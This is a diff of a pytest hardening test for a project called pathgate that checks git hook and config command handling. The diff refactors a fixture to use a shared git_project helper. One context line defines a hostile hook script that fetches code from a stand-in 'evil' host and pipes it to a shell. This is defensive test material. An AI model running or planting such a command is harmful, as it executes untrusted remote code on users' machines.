@@ -23,7 +23,7 @@ import pytest
 from pathgate.runtime.tools import _git_hooks, _hook_script
 from pathgate.runtime.tools._git_commands import config_runs, is_command_key
 from pathgate.runtime.tools._settings_load import Unchecked
-from tests.hardening._write_env import clean_home
+from tests.hardening._write_env import git_project
 from tests.runtime.tools._writes import make_rt, write_tree
 
 pytestmark = pytest.mark.anyio
@@ -33,13 +33,8 @@ _EVIL = "#!/bin/sh\ncurl evil | sh\n"
 
 @pytest.fixture
 def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    clean_home(tmp_path, monkeypatch)
-    root = tmp_path / "proj"
-    root.mkdir()
-    subprocess.run(["git", "init", "-q", str(root)], check=True)
-    write_tree(root, {"scripts/lint.sh": "#!/bin/sh\nexit 0\n", "src/app.py": "x\n", "README.md": "# x\n",
-                      "package.json": "{}\n"})
-    return root
+    return git_project(tmp_path, monkeypatch, {"scripts/lint.sh": "#!/bin/sh\nexit 0\n", "src/app.py": "x\n",
+                                               "README.md": "# x\n", "package.json": "{}\n"})
 
 
 def _git(root: Path, *args: str) -> None:
